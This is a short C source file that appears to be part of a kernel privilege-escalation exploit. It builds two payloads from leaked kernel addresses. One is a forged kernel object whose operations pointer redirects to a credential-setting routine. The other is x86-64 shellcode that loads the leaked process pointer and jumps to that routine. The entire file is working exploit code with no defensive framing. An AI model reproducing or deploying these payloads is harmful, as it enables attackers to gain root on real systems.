/* Payloads that need no knowledge of the kernel's code: a forged object, and machine code. */
#include "attack.h"

#include <string.h>

void payload_object(void *at, uint64_t seen_at, const struct bw_leak *leak)
{
	const struct payload_object payload = {
		.object = {
			.ops = seen_at + offsetof(struct payload_object, ops),
			.argument = { leak->process, 0 },
		},
		.ops = { .handle = leak->credentials_set },
	};

	memcpy(at, &payload, sizeof(payload));
}

size_t payload_shellcode(void *at, const struct bw_leak *leak)
{
	/*
	 * movabs rdi, process
	 * xor esi, esi
	 * movabs rax, credentials_set
	 * jmp rax
	 */
	uint8_t code[] = {
		0x48, 0xbf, 0, 0, 0, 0, 0, 0, 0, 0, 0x31, 0xf6,
		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0,
	};

	memcpy(code + 2, &leak->process, sizeof(leak->process));
	memcpy(code + 14, &leak->credentials_set, sizeof(leak->credentials_set));
	memcpy(at, code, sizeof(code));
	return sizeof(code);
}
